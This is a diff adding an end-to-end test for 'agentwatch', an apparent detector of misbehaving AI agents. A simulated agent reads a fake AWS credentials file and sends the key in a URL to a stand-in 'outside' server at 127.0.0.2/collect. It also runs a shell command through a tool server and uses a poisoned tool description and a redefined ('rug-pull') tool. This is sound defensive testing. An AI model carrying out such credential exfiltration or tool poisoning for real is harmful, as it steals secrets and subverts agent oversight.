@@ -1,0 +1,189 @@
+#!/usr/bin/env python3
+"""e2e: the anomaly engine on live processes, read back through
+`agentwatch alerts --json` and `alert ID --json`.
+
+One agent (an @modelcontextprotocol/sdk client), no watch rule:
+  1. reads a (fake) ~/.aws/credentials through server-filesystem, then
+     passes what it read to a fetch tool that GETs it from a web server on
+     127.0.0.2 (a local rules file narrows the egress allow-list to
+     127.0.0.1, so this counts as leaving):     sensitive-read-then-egress
+     and, with the key in the URL:              secret-in-tool-arguments
+  2. has that tool server run a shell command:  server-spawns-shell
+  3. lists a tool whose description carries hidden instructions:
+                                                tool-description-poisoning
+  4. uses a tool that is then redefined, and lists again:
+                                                tool-definition-changed,
+                                                tool-changed-after-use
+A second, benign agent edits files through server-filesystem and must
+raise nothing. The alerts are also in the store after the daemon stops.
+
+Exit 77 = skipped (not root, or node/npm packages missing), unless
+AGENTWATCH_REQUIRE_BPF=1.
+"""
+import argparse
+import http.server
+import json
+import os
+import shutil
+import signal
+import sqlite3
+import subprocess
+import tempfile
+import threading
+
+from awtest import check, finish_run, free_port, wait_for
+
+HERE = os.path.dirname(os.path.abspath(__file__))
+TESTS = os.path.dirname(HERE)
+MODULES = os.path.join(TESTS, "node_modules", "@modelcontextprotocol")
+CLIENT = os.path.join(HERE, "mcp_client.mjs")
+TOOL_SERVER = os.path.join(HERE, "tool_server.mjs")
+FS = os.path.join(MODULES, "server-filesystem", "dist", "index.js")
+
+
+def main():
+    ap = argparse.ArgumentParser()
+    ap.add_argument("--bindir", required=True)
+    a = ap.parse_args()
+    require = os.environ.get("AGENTWATCH_REQUIRE_BPF") == "1"
+    if os.geteuid() != 0 or not shutil.which("node") or not os.path.isdir(MODULES):
+        why = "needs root, node and `npm ci` in tests/"
+        if require:
+            print("FAIL:", why)
+            return 1
+        print("SKIP:", why)
+        return 77
+
+    agentwatchd = os.path.join(a.bindir, "agentwatchd")
+    cli = os.path.join(a.bindir, "agentwatch")
+    tmp = os.path.realpath(tempfile.mkdtemp(prefix="aw-alerts-e2e-"))
+    endpoint = f"unix://{tmp}/aw.sock"
+    state = os.path.join(tmp, "state")
+    home = os.path.join(tmp, "home")
+    os.makedirs(os.path.join(home, ".aws"))
+    creds = os.path.join(home, ".aws", "credentials")
+    with open(creds, "w") as f:
+        f.write("[default]\naws_access_key_id = AKIAIOSFODNN7EXAMPLE\n")
+    project = os.path.join(tmp, "project")
+    os.makedirs(project)
+    with open(os.path.join(project, "README.md"), "w") as f:
+        f.write("# demo\n")
+    rules = os.path.join(tmp, "rules.d")
+    os.makedirs(rules)
+    with open(os.path.join(rules, "10-test.yaml"), "w") as f:
+        f.write("lists:\n  egress_allow: [\"127.0.0.1/32\"]\n")
+    procs = []
+
+    # The "outside" web server: 127.0.0.2 (loopback, but not allow-listed).
+    class Quiet(http.server.BaseHTTPRequestHandler):
+        def do_GET(self):
+            self.send_response(200)
+            self.send_header("Content-Length", "2")
+            self.end_headers()
+            self.wfile.write(b"ok")
+
+        def log_message(self, *args):
+            pass
+    port = free_port()
+    web = http.server.ThreadingHTTPServer(("127.0.0.2", port), Quiet)
+    threading.Thread(target=web.serve_forever, daemon=True).start()
+
+    def aw(*args):
+        r = subprocess.run([cli, "--endpoint", endpoint] + list(args) + ["--json"],
+                           capture_output=True, text=True, timeout=30)
+        check(r.returncode == 0, f"agentwatch {' '.join(args)}: {r.stderr}")
+        return [json.loads(l) for l in r.stdout.splitlines() if l.strip()]
+
+    try:
+        daemon = subprocess.Popen(
+            [agentwatchd, "--no-builtin-rules", "--endpoint", endpoint, "--state-dir", state,
+             "--rules-dir", rules, "--log-level", "info"],
+            stderr=open(os.path.join(tmp, "daemon.log"), "w"))
+        procs.append(daemon)
+        wait_for(lambda: subprocess.run([cli, "--endpoint", endpoint, "status"],
+                                        capture_output=True).returncode == 0, 30, "the daemon")
+
+        # The benign agent first: edits in a project, lists it, reads it.
+        benign = subprocess.run(
+            ["node", CLIENT, "stdio", "node", FS, project],
+            env=dict(os.environ, CALLS=json.dumps([
+                {"tool": "read_text_file", "arguments": {"path": os.path.join(project, "README.md")}},
+                {"tool": "write_file", "arguments": {"path": os.path.join(project, "notes.md"),
+                                                     "content": "todo\n"}},
+                {"tool": "list_directory", "arguments": {"path": project}},
+            ])), capture_output=True, text=True, timeout=60, cwd=TESTS)
+        check(benign.returncode == 0, f"benign agent: {benign.stderr[-500:]}")
+
+        url = f"http://127.0.0.2:{port}/collect?d={{{{previous}}}}"
+        attack = subprocess.run(
+            ["node", CLIENT, "stdio", "node", FS, tmp],
+            env=dict(os.environ,
+                     CALLS=json.dumps([{"tool": "read_text_file", "arguments": {"path": creds}}]),
+                     THEN_STDIO=f"node {TOOL_SERVER} --poison --rugpull",
+                     THEN_CALLS=json.dumps([
+                         {"tool": "fetch_url", "arguments": {"url": url}},
+                         {"tool": "run_command", "arguments": {"command": "id"}},
+                         {"tool": "note", "arguments": {"text": "hello"}},
+                         {"list": True},
+                     ])),
+            capture_output=True, text=True, timeout=60, cwd=TESTS)
+        check(attack.returncode == 0, f"attacking agent: {attack.stderr[-500:]}")
+        report = json.loads(attack.stdout.strip().splitlines()[-1]) if attack.stdout else {}
+        agent_pid = report.get("pid")
+
+        want = {"sensitive-read-then-egress", "secret-in-tool-arguments", "server-spawns-shell",
+                "tool-description-poisoning", "tool-definition-changed",
+                "tool-changed-after-use"}
+
+        def have():
+            got = {x["rule_id"] for x in aw("alerts")}
+            return got if want <= got else None
+        try:
+            wait_for(have, 30, "the alerts")
+        except SystemExit:
+            pass
+        alerts = aw("alerts")
+        by_rule = {x["rule_id"]: x for x in alerts}
+        for r in sorted(want):
+            check(r in by_rule, f"alert {r} raised (got {sorted(by_rule)})")
+        extra = [x for x in alerts if x["rule_id"] not in want and
+                 x["severity"] in ("medium", "high", "critical")]
+        check(not extra, f"no other medium+ alerts (benign agent included): {extra}")
+
+        exfil = by_rule.get("sensitive-read-then-egress", {})
+        check(exfil.get("agent_pid") == agent_pid, f"exfiltration alert names the agent: {exfil}")
+        ev = exfil.get("evidence", [])
+        check(len(ev) >= 2 and ev[0].get("signal") == "sensitive_read" and
+              ev[0].get("fields", {}).get("path") == creds,
+              f"its first evidence is the read of {creds}: {ev[:1]}")
+        check(any(e.get("signal") == "egress" and
+                  e.get("fields", {}).get("target") == f"127.0.0.2:{port}" for e in ev),
+              f"its evidence has the connection to 127.0.0.2:{port}: {ev}")
+        check(exfil.get("attack") and exfil.get("response") and exfil.get("summary"),
+              "it carries ATT&CK ids, a summary and a response")
+        shell = by_rule.get("server-spawns-shell", {})
+        check("id" in shell.get("summary", ""), f"the shell alert shows the command: {shell}")
+        poison = by_rule.get("tool-description-poisoning", {})
+        check(poison.get("evidence", [{}])[0].get("fields", {}).get("tool") == "add",
+              f"the poisoning alert names the tool: {poison}")
+        if exfil.get("id"):
+            one = aw("alert", str(exfil["id"]))
+            check(one and one[0].get("id") == exfil["id"], "alert ID --json gives it back")
+        rules_listed = aw("rules")
+        check(any(r.get("id") == "server-spawns-shell" for r in rules_listed),
+              "rules lists the built-in pack")
+
+        daemon.send_signal(signal.SIGTERM)
+        daemon.wait(timeout=30)
+        con = sqlite3.connect(os.path.join(state, "agentwatch.db"))
+        stored = {r[0] for r in con.execute("SELECT rule_id FROM alerts")}
+        check(want <= stored, f"the alerts are in the store: {sorted(stored)}")
+        con.close()
+    finally:
+        web.shutdown()
+        rc = finish_run(procs, tmp, "alerts e2e")
+    return rc
+
+
+if __name__ == "__main__":
+    raise SystemExit(main())
